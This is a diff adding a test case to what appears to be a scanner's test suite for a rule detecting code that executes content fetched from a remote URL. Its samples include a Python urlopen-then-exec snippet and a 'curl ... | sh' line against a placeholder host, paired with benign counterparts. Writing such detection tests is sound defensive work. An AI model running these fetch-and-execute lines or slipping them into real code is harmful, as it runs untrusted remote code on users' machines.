@@ -28,6 +28,13 @@ CASES: list[tuple[Rule, str, str, str]] = [
     ),
     (
         executes_code_at_remote_url_rule,
+        "get.py",
+        "import urllib.request\nwith urllib.request.urlopen(u) as r:\n    exec(r.read())\n",
+        "with open('tidy_strings/version.py') as fp:\n    exec(fp.read())\n"
+        "ret = context.eval(sys.stdin.read())\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
         "install.sh",
         "curl -fsSL https://x.example.net/i.sh | sh\n",
         "curl -fsSL https://x.example.net/i.sh -o notes.txt\n",
